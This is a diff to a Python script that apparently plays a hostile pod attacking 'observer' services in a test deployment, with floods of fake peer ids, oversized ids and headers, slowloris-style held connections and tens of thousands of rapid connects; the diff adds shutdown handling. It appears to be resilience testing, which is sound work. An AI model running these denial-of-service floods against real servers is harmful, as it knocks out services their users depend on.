@@ -5,7 +5,7 @@ What an ordinary pod of the VPC does to the observers that it can reach: a scrip
 
 SPEC is JSON: `observers` (their addresses), `port`, `me` (the pod's address), and what the attacker knows of the
 deployment, which is more than a pod can find out: `name`, `target`, `sees_up`, `holds`, `instances`.  It goes on until
-SIGTERM, and then prints what it did, as JSON: how often by each means.
+SIGTERM, makes up what is missing of its CONNECTS, and prints what it did, as JSON: how often by each means.
 
 - `words`: it calls itself a peer, by made-up and by real ids, and says what would keep a standby from taking over.
 - `answers`: it calls itself a peer, and answers whoever asks back by what is no word: deep, endless, dripping, huge.
@@ -28,12 +28,17 @@ from typing import Any, NoReturn
 PATIENCE = 2.0
 SLOW_CONNECTIONS = 200
 CONNECTS = 40_000
+"""How many connections a flood opens and closes at the least, the observers' taken together."""
 MADE_UP = 1500
 LONG_ID = "i-" + "0" * 60_000
 HUGE = (b"X-Huge: " + b"y" * 65_000 + b"\r\n") * 99
 
 Spec = Mapping[str, Any]
 done: Counter[str] = Counter()
+over = threading.Event()
+"""SIGTERM came: what has no end of its own ends."""
+finite: list[threading.Thread] = []
+"""What is waited for then."""
 
 
 def connect(spec: Spec, observer: str) -> socket.socket:
@@ -141,8 +146,11 @@ def answers(spec: Spec) -> None:
 def flood(spec: Spec) -> None:
     """All at once, against both observers."""
     for observer in spec["observers"]:
-        for means in (_ids, _long_ids, _headers, _slow, _connects):
+        for means in (_ids, _long_ids, _headers, _slow):
             threading.Thread(target=means, args=(spec, observer), daemon=True).start()
+        connecting = threading.Thread(target=_connects, args=(spec, observer), daemon=True)
+        connecting.start()
+        finite.append(connecting)
     threading.Event().wait()
 
 
@@ -152,19 +160,17 @@ def _ids(spec: Spec, observer: str) -> None:
 
 
 def _long_ids(spec: Spec, observer: str) -> None:
-    while True:
+    while not over.wait(0.05):
         ask(spec, observer, "long ids", question(f"{LONG_ID}{done['long ids']}"))
-        time.sleep(0.05)
 
 
 def _headers(spec: Spec, observer: str) -> None:
     def keep() -> None:
-        while True:
+        while not over.wait(0.2):
             done["headers"] += 1
             with suppress(OSError), closing(connect(spec, observer)) as connection:
                 connection.sendall(b"GET /v1/word HTTP/1.1\r\n" + HUGE)
-                time.sleep(30.0)
-            time.sleep(0.2)
+                over.wait(30.0)
 
     for _ in range(17):
         threading.Thread(target=keep, daemon=True).start()
@@ -172,7 +178,7 @@ def _headers(spec: Spec, observer: str) -> None:
 
 def _slow(spec: Spec, observer: str) -> None:
     kept: list[socket.socket] = []
-    while True:
+    while not over.wait(0.3):
         while len(kept) < SLOW_CONNECTIONS:
             done["slow"] += 1
             try:
@@ -187,20 +193,23 @@ def _slow(spec: Spec, observer: str) -> None:
             except OSError:
                 connection.close()
         kept = alive
-        time.sleep(0.3)
 
 
 def _connects(spec: Spec, observer: str) -> None:
-    for _ in range(CONNECTS // len(spec["observers"])):
-        done["connects"] += 1
+    """What one observer cannot have, since it is dead by now, the others get."""
+    while done["connects"] < CONNECTS:
         with suppress(OSError):
             connect(spec, observer).close()
+            done["connects"] += 1
 
 
 def main(kind: str, spec: Spec) -> None:
     """Attack until SIGTERM."""
 
     def end(_number: int, _frame: object) -> NoReturn:
+        over.set()
+        for thread in finite:
+            thread.join()
         print(json.dumps(done), flush=True)
         os._exit(0)
 
